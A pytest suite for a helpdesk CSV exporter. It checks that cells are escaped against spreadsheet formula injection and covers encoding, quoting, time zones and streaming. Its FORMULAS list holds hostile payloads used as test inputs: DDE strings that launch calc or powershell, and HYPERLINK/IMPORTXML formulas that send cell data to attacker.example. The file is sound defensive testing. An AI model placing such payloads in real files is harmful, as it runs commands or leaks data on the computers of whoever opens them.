"""CSV that opens rightly in a spreadsheet and never runs what a customer typed."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.web.exports import BOM, CHUNK, cell, csv_bytes, harmless

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"Error: click here")',
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C powershell'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x1b@SUM(1)",
]  # fmt: skip


def read(headers: list[str], rows: list[list[object]], zone=UTC) -> list[list[str]]:
    data = b"".join(csv_bytes(headers, rows, zone))
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_could_be_a_formula_is_made_text(text: str) -> None:
    """CVE-2019-14749: another desk's export ran the name that a customer had typed."""
    assert harmless(text).startswith("'")
    assert read(["name"], [[text]])[1][0].startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_header_that_could_be_a_formula_is_made_text_too(text: str) -> None:
    assert read([text], [])[0][0].startswith("'")


@pytest.mark.parametrize("text", ["王芳", "a=b", "1-2", "me@example.org", "3 + 4", "", "'quoted'"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@given(st.text())
def test_no_text_whatever_begins_like_a_formula(text: str) -> None:
    assert harmless(text).lstrip()[:1] not in set("=+-@＝＋－＠")
    assert not harmless(text).startswith(("\t", "\r", "\n"))


def test_numbers_stay_numbers_and_negative_ones_are_not_taken_for_formulas() -> None:
    data = b"".join(csv_bytes(["a", "b", "c"], [[-5, -1.5, Decimal("-436.00")]]))
    assert data.decode("utf-8-sig").splitlines()[1] == "-5,-1.5,-436.00"


def test_a_negative_number_that_was_typed_as_text_is_text() -> None:
    assert cell("-5") == "'-5"


def test_what_is_no_number_leaves_an_empty_cell() -> None:
    assert [cell(value) for value in (None, float("nan"), float("inf"), Decimal("NaN"))] == [""] * 4


def test_yes_and_no_are_told_as_a_spreadsheet_tells_them() -> None:
    assert (cell(True), cell(False)) == ("TRUE", "FALSE")


def test_moments_are_told_in_the_zone_of_the_reader() -> None:
    moment = datetime(2026, 3, 9, 16, 30, 5, tzinfo=UTC)
    assert cell(moment, SHANGHAI) == "2026-03-10 00:30:05"
    assert cell(moment) == "2026-03-09 16:30:05"
    assert cell(date(2026, 3, 9), SHANGHAI) == "2026-03-09"
    assert cell(time(8, 30)) == "08:30:00"


def test_a_moment_without_a_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="without a zone"):
        cell(datetime(2026, 3, 9, 16, 30))


def test_lines_end_with_cr_lf_and_the_file_begins_with_one_byte_order_mark() -> None:
    data = b"".join(csv_bytes(["编号", "n"], [["2026-000412", 1]]))
    assert data == BOM + '"编号","n"\r\n"2026-000412",1\r\n'.encode()


def test_quotes_commas_and_line_ends_inside_a_cell_come_back_as_they_were() -> None:
    text = 'said "never",\r\nthen hung up; \n三次'
    assert read(["a", "b"], [[text, "x"]])[1] == [text, "x"]


def test_a_cell_cannot_break_out_of_its_quotes_to_begin_a_formula() -> None:
    rows = read(["a", "b"], [['x","=1+1', 'y"\r\n"=1+1']])
    assert rows[1:] == [['x","=1+1', 'y"\r\n"=1+1']]


def test_control_characters_are_dropped_and_lone_surrogates_replaced() -> None:
    assert read(["a"], [["a\x00b\x07\ud800"]])[1] == ["ab?"]


def test_an_empty_table_is_its_headers() -> None:
    assert read(["a", "b"], []) == [["a", "b"]]


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="2 headers"):
        list(csv_bytes(["a", "b"], [["only one"]]))


def test_a_long_table_flows_out_while_it_is_read() -> None:
    taken = 0

    def rows() -> Iterator[list[object]]:
        nonlocal taken
        for taken in range(100_000):
            yield [taken, "师傅上门三次仍未修好"]

    chunks = csv_bytes(["n", "text"], rows())
    assert next(chunks) == BOM
    assert len(next(chunks)) < 4 * CHUNK
    assert taken < 3_000


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_every_table_keeps_its_shape(rows: list[list[str]]) -> None:
    found = read(["a", "b"], rows)
    assert len(found) == len(rows) + 1
    assert all(len(row) == 2 for row in found)
